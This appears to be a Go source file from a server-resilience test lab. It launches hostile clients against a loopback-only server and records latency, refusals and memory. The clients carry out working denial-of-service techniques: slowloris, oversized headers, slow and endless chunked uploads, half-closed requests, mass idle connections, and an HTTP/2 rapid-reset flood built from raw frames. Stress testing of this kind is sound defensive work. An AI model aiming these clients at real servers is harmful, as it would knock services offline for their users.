package overload

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/spillway-go/spillway/histogram"
	"github.com/spillway-go/spillway/lab/contestant"
	"github.com/spillway-go/spillway/lab/service"
	"github.com/spillway-go/spillway/load/usage"
)

// attacked is the input of the hostile clients.
type attacked struct {
	Address string
	Pace    float64
}

// striker is one kind of client that takes what the server has: so many of them make a connection, send first, and
// then again in steps or else wait for the answer. After a pause they begin anew.
type striker struct {
	name    string
	clients int
	pause   time.Duration
	first   string
	half    bool // the client's half is closed after that
	stops   bool // the client does not read the answer
	again   string
	every   time.Duration
}

const (
	asking = "GET /work HTTP/1.1\r\nHost: h\r\n"
	upload = "POST /upload HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
	resets = "resets"
)

// strikers are bounded in what they send, some megabytes a second: the question is what
// the server holds, not how much the loopback interface carries.
var strikers = []striker{
	{name: "slowloris", clients: 200, pause: 100 * time.Millisecond, first: asking, again: "X-A: b\r\n", every: time.Second},
	{name: "headers", clients: 8, pause: 250 * time.Millisecond, first: asking + "X-Long: " + strings.Repeat("a", 1<<20) + "\r\n\r\n"},
	{name: "endless", clients: 10, pause: 100 * time.Millisecond, first: upload, again: "4000\r\n" + strings.Repeat("a", 0x4000) + "\r\n", every: 20 * time.Millisecond},
	{name: "trickle", clients: 10, pause: 100 * time.Millisecond, first: upload, again: "1\r\na\r\n", every: time.Second / 2},
	{name: "half_closed", clients: 20, pause: 50 * time.Millisecond, first: asking + "\r\n", half: true},
	{name: "half_request", clients: 10, pause: 50 * time.Millisecond, first: "GET /work HTTP/1.1\r\nHos", half: true},
	{name: resets, clients: 2, pause: 100 * time.Millisecond},
}

const roleAttackers = "overload-attackers"

// attackers is the role of the hostile clients. It is ready when the idle connections
// stand, and then says how many connections there are at most; the others begin.
func attackers(ctx context.Context, to attacked, ready contestant.Ready) (any, error) {
	if host, _, err := net.SplitHostPort(to.Address); err != nil || !net.ParseIP(host).IsLoopback() {
		return nil, errors.New("hostile clients are for the loopback interface only")
	}
	held, err := holdIdle(ctx, to.Address, int(to.Pace*float64(min(usage.OpenFiles()/3, mostIdle))))
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	if err != nil {
		return nil, err
	}
	open := len(held)
	var all sync.WaitGroup
	for _, k := range strikers {
		open += k.clients
		for range k.clients {
			all.Go(func() { k.attack(ctx, to.Address, 0, new(atomic.Int64)) })
		}
	}
	err = ready(open)
	all.Wait()
	return open, err
}

const (
	mostIdle    = 50_000 // connections, at the usual pace: they also need as many ports
	dialTimeout = 5 * time.Second
)

// holdIdle makes n connections that have had one answer and stay open.
func holdIdle(ctx context.Context, address string, n int) ([]net.Conn, error) {
	held := make([]net.Conn, n)
	dialling, ctx := errgroup.WithContext(ctx)
	dialling.SetLimit(32)
	for i := range held {
		dialling.Go(func() (err error) {
			if ctx.Err() != nil {
				return nil
			}
			if held[i], err = net.DialTimeout("tcp", address, dialTimeout); err == nil {
				err = oneAnswer(held[i])
			}
			return err
		})
	}
	err := dialling.Wait()
	return slices.DeleteFunc(held, func(c net.Conn) bool { return c == nil }), err
}

func oneAnswer(c net.Conn) error {
	if _, err := io.WriteString(c, "GET /livez HTTP/1.1\r\nHost: h\r\n\r\n"); err != nil {
		return err
	}
	_ = c.SetReadDeadline(time.Now().Add(dialTimeout))
	answer, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err == nil {
		_, err = io.Copy(io.Discard, answer.Body)
	}
	return err
}

// attack has a client do that again and again until ctx ends, from so long from now on, and counts refusals.
func (k striker) attack(ctx context.Context, address string, wait time.Duration, refused *atomic.Int64) {
	for ; service.Pause(ctx, wait) == nil; wait = k.pause {
		if k.strike(ctx, address) {
			refused.Add(1)
		}
	}
}

// strike makes a connection and holds it until the server has answered or closed it, or until ctx ends. It says
// whether the answer is a refusal.
func (k striker) strike(ctx context.Context, address string) (refused bool) {
	c, err := (&net.Dialer{Timeout: dialTimeout}).DialContext(ctx, "tcp", address)
	if err != nil {
		return false
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	if k.name == resets {
		rapidResets(ctx, c)
		return false
	}
	tcp, ok := c.(*net.TCPConn)
	if ok && k.stops {
		_ = tcp.SetReadBuffer(smallBuffer)
	}
	_, err = io.WriteString(c, k.first)
	if ok && k.half {
		_ = tcp.CloseWrite()
	}
	for ; k.again != "" && err == nil && ctx.Err() == nil; _ = service.Pause(ctx, k.every) {
		_, err = io.WriteString(c, k.again)
	}
	status := make([]byte, len("HTTP/1.1 200"))
	if _, err := io.ReadFull(c, status); err != nil {
		return false
	}
	if k.stops && strings.HasSuffix(string(status), " 200") {
		<-ctx.Done()
	}
	return strings.HasSuffix(string(status), " 503")
}

// frame appends a frame of HTTP/2.
func frame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(to, stream), payload...)
}

// resetBurst is how many streams are opened and cancelled every 10 ms.
const resetBurst = 10

// rapidResets opens streams and cancels each at once: the client is done with it, and
// the server has begun.
func rapidResets(ctx context.Context, c net.Conn) {
	go func() { _, _ = io.Copy(io.Discard, c) }() // until the connection is closed
	// In HPACK: GET, http, and the path and the authority literally.
	headersOf := append([]byte{0x82, 0x86, 0x04, 5}, "/work"...)
	headersOf = append(headersOf, 0x01, 1, 'h')
	const headers, reset, settings = 1, 3, 4 // kinds of frames
	const endOfStream, endOfHeaders = 1, 4   // flags
	cancelled := []byte{0, 0, 0, 8}
	out := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settings, 0, 0, nil)
	for stream := uint32(1); ctx.Err() == nil; {
		for range resetBurst {
			out = frame(out, headers, endOfStream|endOfHeaders, stream, headersOf)
			out = frame(out, reset, 0, stream, cancelled)
			stream += 2
		}
		if _, err := c.Write(out); err != nil {
			return
		}
		out = out[:0]
		_ = service.Pause(ctx, 10*time.Millisecond)
	}
}

// The memory that a server under attack may use: what it uses anyway, and what a
// connection costs.
const (
	ownMemory        = 64 << 20
	connectionMemory = 32 << 10
)

// attack has hostile clients, in a process of their own, do what they can.
func attack(ctx context.Context, t *trial) (stop func() error, err error) {
	open := 0
	p, err := contestant.Start(ctx, t.Spec("", roleAttackers, attacked{strings.TrimPrefix(t.url, "http://"), t.Pace}), &open)
	if err != nil {
		return nil, err
	}
	t.noted["connections"] = float64(open)
	return func() error { _, err := p.Stop(ctx, nil); return err }, nil
}

// probed is what probes saw meanwhile.
func probed(t *trial) map[string]float64 {
	var all histogram.Histogram
	probes := t.ofKind(1)
	for _, o := range probes.Outcomes {
		all.Merge(o.Latency)
	}
	figures := map[string]float64{"probes_failed": float64(probes.Offered - probes.Of("ok").Count), "connections": t.noted["connections"]}
	if all.Count() > 0 {
		figures["probe_p99_ms"], figures[worst.Key] = float64(all.Quantile(.99))/1e6, float64(all.Max())/1e6
	}
	if memory := float64(t.run.Process.PeakRSS); memory > 0 {
		figures["memory_mib"], figures[memoryShare.Key] = memory/(1<<20), 100*memory/(ownMemory+connectionMemory*t.noted["connections"])
	}
	if t.run.Killed != "" {
		figures[worst.Key] = float64(t.scene.longest().Milliseconds()) // no probe is answered after that
	}
	return figures
}
